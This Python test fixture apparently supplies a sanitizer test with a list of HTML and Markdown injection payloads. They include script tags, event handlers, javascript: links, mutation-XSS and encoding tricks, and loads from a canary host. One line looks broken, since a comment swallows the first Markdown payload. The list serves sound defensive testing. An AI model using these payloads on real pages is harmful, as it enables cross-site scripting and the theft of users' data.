"""What text may try in a page that shows it as markup: HTML, Markdown and the ways around a sanitizer."""

from collections.abc import Sequence

from tests.fakes import HOSTILE

_PAYLOADS = (
    # scripts, and what runs by itself
    "<script src={canary}/s.js></script>",
    "<script>fetch('{canary}/f');window.struck=1</script>", "<img src={canary}/i.png>",
    "<img src=x onerror=\"window.struck=1;alert(2)\">", "<img srcset='{canary}/a 1x, {canary}/b 2x'>",
    "<svg onload=alert(3)><image href={canary}/svg.png /></svg>", "<svg><use href='{canary}/u.svg#x'/></svg>",
    "<svg><animate onbegin=alert(4) attributeName=x dur=1s></svg>",
    "<svg><style>@import '{canary}/svg.css'</style></svg>", "<math><mtext><img src={canary}/m></mtext></math>",
    "<body onload=alert(5) background={canary}/bg>", "<details open ontoggle=alert(6)>d</details>",
    "<marquee onstart=alert(7)>m</marquee>", "<input autofocus onfocus=alert(8)>",
    "<select autofocus onfocus=alert(9)></select>", "<video autoplay src={canary}/v.mp4 onerror=alert(10)></video>",
    "<audio autoplay src={canary}/a.mp3></audio>", "<picture><source srcset={canary}/pic><img src=x></picture>",
    "<video poster={canary}/poster.png></video>", "<object data={canary}/o.swf></object>",
    "<embed src={canary}/e.swf>", "<applet code={canary}/a.class></applet>",
    "<iframe src='javascript:alert(11)'></iframe>", "<iframe srcdoc='<script>parent.struck=1</script>'></iframe>",
    "<frameset onload=alert(12)></frameset>", "<portal src={canary}/p></portal>", "<fencedframe></fencedframe>",
    # the head of a page
    "<link rel=stylesheet href={canary}/l.css>", "<link rel=prefetch href={canary}/pre>",
    "<link rel=import href={canary}/im>", "<meta http-equiv=refresh content='0;url={canary}/refresh'>",
    "<base href={canary}/>", "<title>struck</title>", "<style>*{{background:url({canary}/style)}}</style>",
    "<style>@font-face{{font-family:x;src:url({canary}/font)}}</style>",
    # forms, links and what covers the page
    "<form action={canary}/form><input type=password name=p><button>ok</button></form>",
    "<button formaction={canary}/fa>press</button>",
    "<button form=x formaction='javascript:alert(13)'>press</button>", "<isindex action={canary}/is>",
    "<a href={canary}/a ping={canary}/ping>link</a>", "<a href=' javascript:alert(14)'>link</a>",
    "<a href='data:text/html,<script>alert(15)</script>'>link</a>", "<area href={canary}/area shape=default>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url({canary}/cover)'>Sign in</div>",
    "<div style='background-image:url({canary}/css)'>d</div>", "<table background={canary}/t><tr><td>x</table>",
    "<dialog open>sign in</dialog>", "<div popover id=p>pop</div>",
    "<template shadowrootmode=open><img src={canary}/sh></template>", # Markdown     "![picture]({canary}/md.png)",
    "![ref][r]\n\n[r]: {canary}/ref.png", "[click]({canary}/md)", "[js](javascript:alert(16))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "<{canary}/auto>", "{canary}/bare",
    "[x]({canary} 'title\" onmouseover=\"alert(17)')", "```html\n<img src={canary}/fence>\n```",
    "| a | <img src={canary}/cell> |\n|---|---|", "- [ ] <img src={canary}/task>", "> <script>alert(18)</script>",
    "[^1]\n\n[^1]: <img src={canary}/note>", "$$\\href{{{canary}/tex}}{{x}}$$",
    "\\(\\includegraphics{{{canary}/tex.png}}\\)", "```mermaid\ngraph TD; a-->b; click a \"{canary}/mer\"\n```",
    # ways around
    "<scr<script>ipt>alert(19)</scr</script>ipt>", "<IMG SRC={canary}/upper>",
    "<img/src={canary}/slash>", "<img\nsrc={canary}/line>", "\uff1cscript\uff1ealert(20)\uff1c/script\uff1e",
    "&lt;img src={canary}/ent&gt;", "&#60;script&#62;alert(21)&#60;/script&#62;",
    "%3Cscript%3Ealert(22)%3C/script%3E", "<noscript><p title='</noscript><img src={canary}/mx onerror=alert(23)>'>",
    "<svg></p><style><a id='</style><img src={canary}/mxss onerror=alert(24)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(25)</script>'>", "<!--><img src={canary}/comment>-->",
    "<![CDATA[<img src={canary}/cdata>]]>", "</textarea><img src={canary}/ta>",
    "'\"><img src={canary}/attr onerror=alert(26)>", "{{{{constructor.constructor('alert(27)')()}}}}",
    "${{alert(28)}}", "<%= 7*7 %>", "javascript:alert(29)", "<x onclick=alert(30) tabindex=1 id=x>struck</x>",
    "<xss contenteditable onfocus=alert(31) autofocus>", "\u202e<gmi src={canary}/rtl>",
    "<img src=//127.0.0.1:1/proto-relative>", "<a\u3000href={canary}/wide>w</a>",
)  # fmt: skip


def payloads(canary: str) -> Sequence[str]:
    """All of them, those that reach out with the address of a canary."""
    return (*HOSTILE, *(text.format(canary=canary) for text in _PAYLOADS))
